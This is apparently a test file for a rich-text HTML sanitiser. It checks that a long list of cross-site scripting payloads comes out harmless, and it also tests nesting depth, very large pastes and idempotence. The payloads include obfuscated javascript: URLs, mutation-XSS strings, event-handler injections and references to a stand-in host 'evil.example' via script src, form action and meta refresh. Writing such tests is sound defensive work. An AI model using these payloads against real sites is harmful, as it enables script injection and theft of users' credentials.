import fc from 'fast-check'
import { expect, test } from 'vitest'
import { cleanRichText } from './rich-text.ts'

const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\u0000script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&Tab;:alert(1)',
  'java&NewLine;script:alert(1)',
  'jav&#x09;ascript:alert(1)',
  'javascript\u200b:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'blob:https://ours.example/1',
  'file:///etc/passwd',
  'filesystem:https://ours.example/x',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'intent://scan/#Intent;scheme=zxing;end',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example',
  '/\t/evil.example',
  'https:evil.example',
  'https:/\\evil.example',
  'http://[::1',
]

const hostile = [
  ...schemes.flatMap((address) => [
    `<a href="${address}">x</a>`,
    `<img src="${address}" alt="x">`,
    `<figure data-media="video"><a href="${address}">x</a></figure>`,
    `<p data-action="button"><a href="${address}">x</a></p>`,
  ]),
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="/art/a.svg" onerror=alert(1) srcset="//evil.example 1x" style="position:fixed" alt="&quot;><script>alert(1)</script>">',
  '<img src="/art/../api/logout" alt="x">',
  '<img src="/media/x.svg" alt="x">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<table><caption><svg><title><img src=x onerror=alert(1)></title></svg></caption></table>',
  '<b onmouseover=alert(1)>x</b>',
  '<p style="background:url(javascript:alert(1))" class="x" id="root">x</p>',
  '<h2 id="root" onclick="x()">x</h2>',
  '<ol start="1 onclick=alert(1)" reversed type="a"><li value="9" onclick=x>x</li></ol>',
  '<ol start="-5"><li>x</li></ol>',
  '<blockquote cite="javascript:alert(1)" data-kind="scripture x" data-evil="1"><p>x</p></blockquote>',
  '<figure data-width="wide&quot; onclick=&quot;alert(1)" data-media="script"><img src="/art/a.svg" alt="x"></figure>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"><embed src="//evil.example"></object>',
  '<style>*{background:url(//evil.example)}</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<!--><script>alert(1)</script>-->',
  '<!-- <p> --!><script>alert(1)</script>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '<!DOCTYPE html [<!ENTITY x "<script>">]>&x;',
  '<noscript><p title="</noscript><script>alert(1)</script>">',
  '<noscript><img src=x onerror=alert(1)></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><script>alert(1)</script></title>',
  '<template><script>alert(1)</script></template>',
  '<template><p>x</template><img src=x onerror=alert(1)>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<select><option><script>alert(1)</script></select>',
  '<p <script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "<a href='/x' title='\"><script>alert(1)</script>'>x</a>",
  '<a href="/x\u0000" onclick\u0000=x>x</a>',
  '<custom-element onclick=x is="y">x</custom-element>',
  '<p>unclosed <b>tags <ul><li>everywhere <h2>and <blockquote>so on',
  '</p></div></ul></li></blockquote></figure>',
  '<table><tr><td><table><tr><td>x</table></table>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\ufeff\u202e<b>x</b>\ud800',
]

test.each(hostile)('nothing that could run is left of %j', (markup) => expectHarmless(cleanRichText(markup)))

test('nothing that could run is left of any mixture', () => {
  const pieces = fc.constantFrom(
    ...hostile,
    ...['<a href="', '<p ', '">', "'", '<', '>', '</a>', '<script', '</script>', 'javascript:', 'onclick='],
    ...[
      '&lt;script&gt;',
      '&#60;',
      '&quot;',
      '\u0000',
      '\n',
      '/',
      '<!--',
      '-->',
      '<figure>',
      '<img src="',
      'x',
    ],
  )
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 8 }), (mixture) => {
      const once = cleanRichText(mixture.join(''))
      expectHarmless(once)
      expect(cleanRichText(once)).toBe(once)
    }),
    { numRuns: 1000 },
  )
})

test.each([
  ['div', '<div>', '</div>'],
  ['b', '<b>', '</b>'],
  ['blockquote', '<blockquote>', '</blockquote>'],
  ['list', '<ul><li>', '</li></ul>'],
  ['link', '<a href="/x">', '</a>'],
  ['table', '<table><tr><td>', '</td></tr></table>'],
  ['figure', '<figure>', '</figure>'],
  ['span', '<span>', '</span>'],
  ['svg', '<svg>', '</svg>'],
])('ten thousand levels of %s are cleaned', (name, open, close) => {
  for (const markup of [
    `${open.repeat(10_000)}deep${close.repeat(10_000)}`,
    `${open.repeat(10_000)}deep`,
    `deep${close.repeat(10_000)}`,
  ]) {
    const clean = cleanRichText(markup)
    expectHarmless(clean)
    if (name !== 'svg') expect(clean).toContain('deep')
    expect(depthOf(clean)).toBeLessThan(12)
  }
})

test('no more tags are read than any text has, however many come', () => {
  const tags = (markup: string) => cleanRichText(markup).match(/<[a-z]/g)?.length ?? 0
  expect(tags('<p>x</p>'.repeat(4000))).toBe(4000)
  for (const markup of ['<p>x</p>', '<b>x</b> ', '<li>x', '<hr>'])
    expect(tags(markup.repeat(25_000))).toBeLessThanOrEqual(20_000)
})

test('a long address is not repeated without end', () => {
  const address = `/${'a'.repeat(1500)}`
  const clean = cleanRichText(`<a href="${address}">${'x\n'.repeat(10_000)}</a>`)
  expect(clean.split(address).length - 1).toBe(1)
  expect(cleanRichText(`<a href="${address.repeat(2)}">x</a>`)).toBe('<p>x</p>')
})

test('pastes of several megabytes are cleaned', () => {
  const words = 'Grace and peace to you. '.repeat(200_000)
  expect(cleanRichText(words).length).toBe(words.trim().length + '<p></p>'.length)
  expect(cleanRichText('One line\n'.repeat(100_000)).split('\n').length).toBe(100_000)
  expect(
    cleanRichText(`<img src="data:image/png;base64,${'A'.repeat(4_000_000)}" alt="x"><p>After</p>`),
  ).toBe('<p>After</p>')
  expect(cleanRichText(`<p style="${'color:red;'.repeat(400_000)}">x</p>`)).toBe('<p>x</p>')
  expect(cleanRichText(`<p ${'a=1 '.repeat(200_000)}>x</p>`)).toBe('<p>x</p>')
})

const block = [
  /<\/?(?:p|h2|h3|ul|ol|li|blockquote|figure|figcaption|strong|em|q|cite|sub|sup)>/,
  /<\/a>|<br>|<hr>|<ol start="\d{1,4}">|<p data-action="button">/,
  /<blockquote data-kind="(?:scripture|prayer)">|<figure data-(?:width="(?:small|text|wide)"|media="(?:video|audio)")>/,
  /<img src="\/(?:media\/[0-9a-f]+-\d+x\d+\.webp|art\/[a-z0-9-]+\.svg)" alt="[^"<>]*">/,
  /<a href="[^"<>\\\s]+"(?: rel="noopener nofollow")?>/,
]

/** Every tag is one of the format, with its attributes only; all else is text. */
function expectHarmless(clean: string) {
  for (const [tag] of clean.matchAll(/<[^>]*>?/g))
    expect(block.some((pattern) => pattern.exec(tag)?.[0] === tag) ? '' : tag).toBe('')
  expect(clean.replace(/<[^>]*>/g, '')).not.toMatch(/[<>]/)
  expect(clean).not.toContain('\u0000')
  for (const [, href = ''] of clean.matchAll(/href="([^"]*)"/g)) {
    const url = new URL(unescaped(href), 'https://ours.example')
    expect(['http:', 'https:', 'mailto:', 'tel:']).toContain(url.protocol)
    if (/^[/#]/.test(href)) expect(url.host).toBe('ours.example')
  }
}

const unescaped = (text: string) =>
  text
    .replaceAll('&#39;', "'")
    .replaceAll('&quot;', '"')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&')

function depthOf(clean: string): number {
  let [depth, deepest] = [0, 0]
  for (const [tag] of clean.matchAll(/<[^>]*>/g)) {
    if (/^<(?:br|hr|img)/.test(tag)) continue
    depth += tag.startsWith('</') ? -1 : 1
    deepest = Math.max(deepest, depth)
  }
  expect(depth).toBe(0)
  return deepest
}
